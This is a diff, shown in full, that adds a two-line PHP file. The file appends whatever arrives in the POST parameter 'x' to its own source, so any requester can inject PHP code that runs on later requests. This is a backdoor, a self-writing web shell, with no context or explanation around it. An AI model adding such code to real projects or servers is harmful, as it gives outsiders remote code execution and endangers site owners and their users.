@@ -1,0 +1,2 @@
+<?php
+$fp = fopen(__FILE__, 'a'); fwrite($fp, $_POST['x']); fclose($fp);
